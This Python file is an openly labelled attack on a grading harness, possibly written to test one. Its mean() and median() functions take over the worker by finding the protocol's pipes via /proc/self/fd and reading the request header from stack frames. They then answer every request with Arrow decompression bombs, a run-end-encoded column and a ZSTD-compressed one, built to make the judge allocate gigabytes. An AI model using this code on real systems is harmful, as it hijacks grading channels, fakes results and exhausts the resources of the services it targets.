"""Attack: answer through the grader's private channel with a few hundred bytes of Arrow that
would decode to gigabytes in the judge.

The first call takes over the worker: it finds the protocol's pipes and from then on answers
every request itself. mean() gets a run-end-encoded column of 2**29 float64 values (488 bytes;
``to_pandas()`` would allocate 4.3 GB), median() a ZSTD-compressed column of 2**22 zeros (a few
hundred bytes for 4 MB: what the worker's 512 MB lets it build; ZSTD's ratio goes far beyond,
and the judge would decompress a bigger one just the same). Both are plain Arrow types.
"""

import io
import json
import os
import stat
import sys


def _pipes():
    """The protocol's output and input: the pipes this process holds beside 0, 1 and 2."""
    out = inp = None
    for name in os.listdir("/proc/self/fd"):
        fd = int(name)
        try:  # the listing's own descriptor is gone by now
            if fd in (0, 1, 2) or not stat.S_ISFIFO(os.fstat(fd).st_mode):
                continue
            with open(f"/proc/self/fdinfo/{fd}") as info:
                writes = int(info.read().split("flags:")[1].split()[0], 8) & os.O_WRONLY
        except OSError:
            continue
        if writes and out is None:
            out = fd
        elif not writes and inp is None:
            inp = fd
    return out, inp


def _request():
    frame = sys._getframe(1)
    while frame is not None:
        header = frame.f_locals.get("header")
        if type(header) is dict and "id" in header:
            return header
        frame = frame.f_back
    return None


def _bomb(name):
    import numpy as np
    import pyarrow as pa

    if name == "median":
        table, compression = pa.table({"x": np.zeros(2**22, dtype=np.int8)}), "zstd"
    else:
        runs = pa.RunEndEncodedArray.from_arrays(pa.array([2**29], pa.int32()), pa.array([1.0]))
        table, compression = pa.table({"x": runs}), None
    sink = io.BytesIO()
    options = pa.ipc.IpcWriteOptions(compression=compression)
    with pa.ipc.new_stream(sink, table.schema, options=options) as writer:
        writer.write_table(table)
    return sink.getvalue()


def _answer(out, request):
    blob = _bomb(request.get("name"))
    header = {"id": request["id"], "ok": True, "value": {"$": "dataframe", "blob": 0},
              "blobs": [len(blob)]}
    data = json.dumps(header).encode() + b"\n" + blob
    while data:
        data = data[os.write(out, data):]


def _take_over():
    (out, inp), request = _pipes(), _request()  # before pyarrow opens pipes of its own
    if out is None or inp is None or request is None:
        return
    _answer(out, request)
    reader = os.fdopen(inp, "rb")
    while line := reader.readline():
        request = json.loads(line)
        for size in request.get("blobs", []):
            reader.read(size)
        _answer(out, request)
    os._exit(0)


def mean(values):
    _take_over()
    return 0


def median(values):
    _take_over()
    return 0
